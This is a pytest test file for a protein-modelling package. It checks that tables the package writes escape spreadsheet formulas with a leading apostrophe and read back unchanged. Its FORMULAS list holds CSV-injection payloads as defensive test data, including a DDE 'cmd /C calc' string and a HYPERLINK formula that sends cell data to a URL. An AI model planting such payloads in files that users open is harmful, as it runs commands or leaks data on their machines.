"""No cell of a table that is written is a formula to a spreadsheet, and what is read back is what was written."""

import csv
import re
from io import StringIO
from pathlib import Path

import pytest
from command import esmshard

import esmshard as package
from esmshard import spreadsheet
from esmshard.data.tables import read_table
from esmshard.predict import predictions, variant_tables

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1)',
    "=1+1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "-inf",
    "'=1",
    "''@x",
]
NUMBERS = ["-0.25", "+3", "-1e-05", "-1,5", "-1.234,5", "-12%", "-", "", "0", "nan"]
TEXTS = ["sp|P12345|X", "A24G", "'quoted'", "it's", "a=b", "O'Neil", "'"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text: str) -> None:
    assert spreadsheet.safe(text) == f"'{text}"
    assert spreadsheet.plain(spreadsheet.safe(text)) == text


@pytest.mark.parametrize("text", [*NUMBERS, *TEXTS])
def test_all_else_stays_as_it_is(text: str) -> None:
    assert spreadsheet.safe(text) == text
    assert spreadsheet.plain(text) == text


def test_rows_come_back() -> None:
    rows = [["id", "=name"], *([text, number] for text in FORMULAS for number in NUMBERS)]
    file = StringIO(newline="")
    spreadsheet.writer(file).writerows(rows)
    assert list(spreadsheet.reader(StringIO(file.getvalue(), newline=""))) == rows
    raw = list(csv.reader(StringIO(file.getvalue(), newline="")))
    assert not [cell for row in raw for cell in row if cell[:1] in "=+-@\t\r" and cell not in NUMBERS]


def test_a_table_of_ours_is_read_as_it_was_written(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    variant_tables.write(out, {"id": ["=1", "-p2", "'=3"], "y": ["-1.5", "2", "-"]}, {"@new": ["+a", "b", "-2"]})
    assert out.read_text().splitlines() == ["id,y,'@new", "'=1,-1.5,'+a", "'-p2,2,b", "''=3,-,-2"]
    table = read_table(out)
    assert table.columns == {"id": ["=1", "-p2", "'=3"], "y": ["-1.5", "2", "-"], "@new": ["+a", "b", "-2"]}
    assert table.numbers("y").tolist()[:2] == [-1.5, 2.0]


def test_predictions_for_ids_that_are_formulas(tmp_path: Path) -> None:
    residues = ["MKTAYIAKQRQISFVKSHFSRQ", "MKVLAAGIVGLCAKAYIAKQ", "MSTNPKPQRKTKRNTNRRPQDVK"]
    ids = ["=1+1", "@SUM(A1)", "-p3"]
    (tmp_path / "x.fasta").write_text("".join(f">{i}\n{s}\n" for i, s in zip(ids, residues, strict=True)))
    (tmp_path / "t.fasta").write_text((tmp_path / "x.fasta").read_text())
    (tmp_path / "y.csv").write_text("id,y\n'=1+1,-1\n@SUM(A1),2\n-p3,3\n")  # with and without the apostrophe
    (tmp_path / "r.yaml").write_text(
        "task: {name: sequence, kind: number}\nmodel: {name: nano}\ninit: random\n"
        "data: {train: x.fasta, valid: x.fasta, test: t.fasta, labels: y.csv, target: [y]}\n"
        "train: {steps: 1}\nout: run\n"
    )
    done = esmshard("finetune", "r.yaml", "--nproc", "1", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    done = esmshard("predict", "run/model", "x.fasta", "-o", "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    for path in (tmp_path / "run" / "per_protein.csv", tmp_path / "out.csv"):
        with open(path, newline="") as file:
            assert [row["id"] for row in csv.DictReader(file)] == [f"'{one}" for one in ids]
        assert read_table(path).column("id") == ids


def test_lists_of_records(tmp_path: Path) -> None:
    predictions.write_failures(tmp_path / "x.npz", [predictions.Failure("=1+1", 3, "+ is unknown")])
    assert (tmp_path / "x.npz.failed.tsv").read_text() == "id\tlength\treason\n'=1+1\t3\t'+ is unknown\n"
    (tmp_path / "x.fasta").write_text("".join(f">=p{n}\n{'ACDEFGHIKL'[n:]}MKV\n" for n in range(10)))
    done = esmshard("split", "x.fasta", "-o", "sets", "--by", "ratio", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    _, *lines = (tmp_path / "sets" / "splits.tsv").read_text().splitlines()
    assert [line.split("\t")[0] for line in lines] == [f"'=p{n}" for n in range(10)]


def test_tables_are_written_in_one_place() -> None:
    root = Path(package.__file__).parent
    wrong = [
        f"{path.name}:{n}"
        for path in root.rglob("*.py")
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if path.name != "spreadsheet.py" and re.search(r'csv\.writer|csv\.Dict|"\\t"\.join', line)
    ]
    assert wrong == []
